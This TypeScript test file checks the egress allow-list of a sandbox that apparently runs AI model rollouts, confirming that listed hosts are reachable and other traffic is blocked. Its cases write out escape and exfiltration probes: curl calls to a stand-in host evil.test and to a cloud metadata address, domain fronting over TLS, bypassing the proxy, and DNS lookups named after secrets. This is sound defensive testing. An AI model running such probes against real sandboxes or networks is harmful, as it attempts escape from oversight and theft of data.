import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { HTTP_PORT, Outside, writeNetworkedPolicy } from './support/outside.ts';
import { docker } from './support/docker.ts';
import { World, type Server, type ToolReply } from './support/server.ts';

/** Sandbox policies with an egress list, against an outside world of containers. */

const GOOD = `http://good.test:${String(HTTP_PORT)}`;
const item = { trace: 'networked' };

let outside: Outside;
let world: World;
let server: Server;
beforeAll(async () => {
  outside = await Outside.open();
  world = new World();
  writeNetworkedPolicy(world.folder);
  server = await world.start({ FAULTLINE_EGRESS_DNS: outside.nameServer });
});
afterAll(async () => {
  await world[Symbol.asyncDispose]();
  await outside[Symbol.asyncDispose]();
});

let calls = 0;
async function shell(rollout: string, command: string): Promise<ToolReply> {
  calls += 1;
  const opened = await server.request('POST', '/v1/rollouts', {
    rollout_id: rollout,
    task: 'networked',
    item,
  });
  expect(opened.status).toBeLessThan(300);
  return await server.tool('shell', rollout, `call-${String(calls)}`, { command });
}

const egressSockets = (): string[] =>
  readdirSync(join('/run/faultline', world.controllerId.slice(0, 8), 'doors'));
const proxyPid = (): number =>
  Number(readFileSync(join('/run/faultline', world.controllerId.slice(0, 8), 'proxy/squid.pid'), 'utf8'));

async function until(what: () => boolean | Promise<boolean>): Promise<void> {
  const end = Date.now() + 20_000;
  while (!(await what())) {
    if (Date.now() > end) throw new Error(`not within 20 s: ${what.toString()}`);
    await sleep(50);
  }
}

describe('a listed host', () => {
  it('is reached by programs that know proxies', async () => {
    expect(await shell('r', `curl -s ${GOOD}/`)).toMatchObject({
      status: 200,
      output: 'hello from outside\n',
    });
    expect((await shell('r', 'curl -sk https://good.test/')).output).toBe('hello over TLS\n');
    const python = `python3 -c "import urllib.request as u; print(u.urlopen('${GOOD}/').read())"`;
    expect((await shell('r', python)).output).toContain('hello from outside');
    expect((await shell('r', `curl -s http://deep.below.open.test:${String(HTTP_PORT)}/`)).output).toContain(
      'hello',
    );
    expect(await server.verdict('r')).toMatchObject({ verdict: 'valid', counts: { ok: 4, infra: 0 } });
  });

  it('is reached by many at once, and large answers arrive whole', async () => {
    const many = `for i in $(seq 40); do curl -s --retry 5 --retry-all-errors ${GOOD}/ & done | sort | uniq -c`;
    expect((await shell('r', `${many}; wait`)).output).toMatch(/40 hello from outside/);
  });
});

describe('nothing else is reached', () => {
  it.each([
    ['another name', 'curl -s -o /dev/null -w "%{http_code}" http://evil.test:8480/', '403'],
    ['another port', 'curl -s -o /dev/null -w "%{http_code}" http://good.test:22/', '403'],
    [
      'a name whose suffix alone is listed',
      'curl -s -o /dev/null -w "%{http_code}" http://notopen.test:8480/',
      '403',
    ],
    ['an address', 'curl -s -o /dev/null -w "%{http_code}" http://{web}:8480/', '403'],
    ['an address of this host', 'curl -s -o /dev/null -w "%{http_code}" http://127.0.0.2:8480/', '403'],
    ['an address in IPv6', 'curl -s -o /dev/null -w "%{http_code}" "http://[fd00::1]:8480/"', '403'],
    ['metadata', 'curl -s -o /dev/null -w "%{http_code}" http://169.254.169.254/latest/meta-data/', '403'],
    ['this host', 'curl -s -o /dev/null -w "%{http_code}" http://localhost.localdomain:8080/', '403'],
    [
      'a listed name that leads inside',
      'curl -s -o /dev/null -w "%{http_code}" http://inside.test:8480/',
      '403',
    ],
    ['a tunnel to another name', 'curl -sk -o /dev/null -w "%{http_code}" https://evil.test/', '403'],
    ['without the proxy', 'unset http_proxy HTTP_PROXY; curl -s -m 3 http://{web}:8480/ || echo $?', '7\n'],
    [
      'by name without the proxy',
      'unset http_proxy HTTP_PROXY; curl -s -m 9 http://good.test:8480/ || echo $?',
      '6\n',
    ],
    ['the name server', 'dig +time=1 +tries=1 @{names} a.evil.test >/dev/null || echo $?', '9\n'],
  ])('%s', async (_, command, shown) => {
    const before = await outside.arrivals();
    const addressed = command.replace('{web}', outside.address).replace('{names}', outside.nameServer);
    const reply = await shell('r', addressed);
    expect(reply).toMatchObject({ status: 200, output: shown });
    expect(await outside.arrivals()).toEqual(before);
  });

  it('a listed host under the name of another, within TLS', async () => {
    const { output } = await shell(
      'r',
      'curl -sk --connect-to evil.test:443:good.test:443 https://evil.test/ || echo $?',
    );
    expect(output).not.toContain('hello');
    expect((await outside.arrivals()).arrived).not.toContain('evil.test');
  });

  it('there is no interface but loopback, and no name is asked for that is not listed', async () => {
    expect((await shell('r', 'ls /sys/class/net; cat /proc/net/route | wc -l')).output).toBe('lo\n1\n');
    await shell('r', 'curl -s http://secret-data.evil.test/; getent hosts more-secrets.evil.test');
    const asked = await outside.asked();
    expect(asked).not.toContain('secret');
    expect(asked).toContain('good.test');
  });

  it('and all of it is the model’s own doing', async () => {
    expect(await server.verdict('r')).toMatchObject({
      verdict: 'valid',
      counts: { infra: 0, undetermined: 0 },
    });
  });
});

it('what the proxy saw is part of the evidence', async () => {
  await shell('seen', `curl -s ${GOOD}/; curl -s http://evil.test/`);
  const folder = join(world.folder, 'data/journal');
  const lines = readdirSync(folder).flatMap((file) => readFileSync(join(folder, file), 'utf8').split('\n'));
  const line = lines.find((text) => text.includes('"call_finished","rollout":"seen"'));
  const { evidence } = JSON.parse(String(line)) as { evidence: { record: { egress: unknown } } };
  expect(evidence.record.egress).toEqual({ connections: 2, denied: 1, disturbed: false });
});

it('a name that does not exist is the asker’s fault', async () => {
  await shell(
    'absent',
    `curl -s -o /dev/null -w "%{http_code}" http://absent.open.test:${String(HTTP_PORT)}/`,
  );
  expect(await server.verdict('absent')).toMatchObject({ verdict: 'valid', counts: { ok: 1 } });
});

it('a name that no name server can be asked for is the asker’s fault', async () => {
  const label = 'a'.repeat(64);
  await shell('long', `curl -s -o /dev/null http://${label}.open.test:${String(HTTP_PORT)}/`);
  expect(await server.verdict('long')).toMatchObject({ verdict: 'valid', counts: { ok: 1, infra: 0 } });
});

it('a proxy that crashes under a call does not excuse the rollout that was connected', async () => {
  await shell('crasher', 'true');
  const before = (await outside.arrivals()).held;
  const using = shell('crasher', `curl -s ${GOOD}/slow; echo $?`);
  await until(async () => (await outside.arrivals()).held > before);
  process.kill(proxyPid(), 'SIGABRT');
  expect(await using).toMatchObject({ status: 200, output: '52\n' });
  expect(await server.verdict('crasher')).toMatchObject({
    verdict: 'valid',
    counts: { infra: 0, undetermined: 1 },
  });
  expect((await shell('crasher', `curl -s ${GOOD}/`)).output).toBe('hello from outside\n');
});

it('a proxy that dies under a call excludes the rollout that used it, no other, and is back', async () => {
  await shell('idle', 'true');
  const before = (await outside.arrivals()).held;
  const using = shell('hit', `curl -s ${GOOD}/slow`);
  const idling = shell('idle', 'sleep 3; echo slept');
  await until(async () => (await outside.arrivals()).held > before);
  process.kill(proxyPid(), 'SIGKILL');
  expect(await using).toMatchObject({ status: 503 });
  expect(await server.verdict('hit')).toMatchObject({ verdict: 'exclude', reasons: ['egress_down'] });
  expect(await idling).toMatchObject({ status: 200, output: 'slept\n' });
  expect(await server.verdict('idle')).toMatchObject({ verdict: 'valid' });
  expect((await shell('after', `curl -s ${GOOD}/`)).output).toBe('hello from outside\n');
});

it('a proxy that hangs is noticed by the call that used it, and replaced', async () => {
  await shell('hung', 'true');
  const pid = proxyPid();
  process.kill(pid, 'SIGSTOP');
  expect(await shell('hung', `curl -s -m 2 ${GOOD}/`)).toMatchObject({ status: 503 });
  expect(await server.verdict('hung')).toMatchObject({ verdict: 'exclude', reasons: ['egress_down'] });
  expect((await shell('anew', `curl -s ${GOOD}/`)).output).toBe('hello from outside\n');
  expect(proxyPid()).not.toBe(pid);
});

it('name servers that are silent are ours', async () => {
  await shell('nameless', 'true');
  {
    await using _silence = await outside.silenceNames();
    const reply = await shell('nameless', `curl -sS -v http://fresh.open.test:${String(HTTP_PORT)}/`);
    expect(reply.status).toBe(503);
  }
  expect(await server.verdict('nameless')).toMatchObject({ verdict: 'exclude', reasons: ['egress_down'] });
});

it('after a controller that was killed the way out is there again', async () => {
  await shell('lasting', `curl -s ${GOOD}/`);
  await server.kill();
  server = await world.start({ FAULTLINE_EGRESS_DNS: outside.nameServer });
  const again = await shell('lasting', `curl -s ${GOOD}/`);
  expect(again).toMatchObject({ status: 200, output: 'hello from outside\n' });
  expect(await server.verdict('lasting')).toMatchObject({ verdict: 'valid' });
});

it('the egress socket of a sandbox is removed with it', async () => {
  const names = async (): Promise<number> => (await world.containers()).length;
  await shell('gone', 'true');
  const before = egressSockets().length;
  await server.request('DELETE', '/v1/rollouts/gone');
  await until(() => egressSockets().length === before - 1);

  // The socket of a sandbox that ended while no server ran is removed at the next start.
  await server.kill();
  await docker('rm', '-f', String(world.claims('after').at(-1)));
  server = await world.start({ FAULTLINE_EGRESS_DNS: outside.nameServer });
  await until(async () => egressSockets().length === (await names()));
});
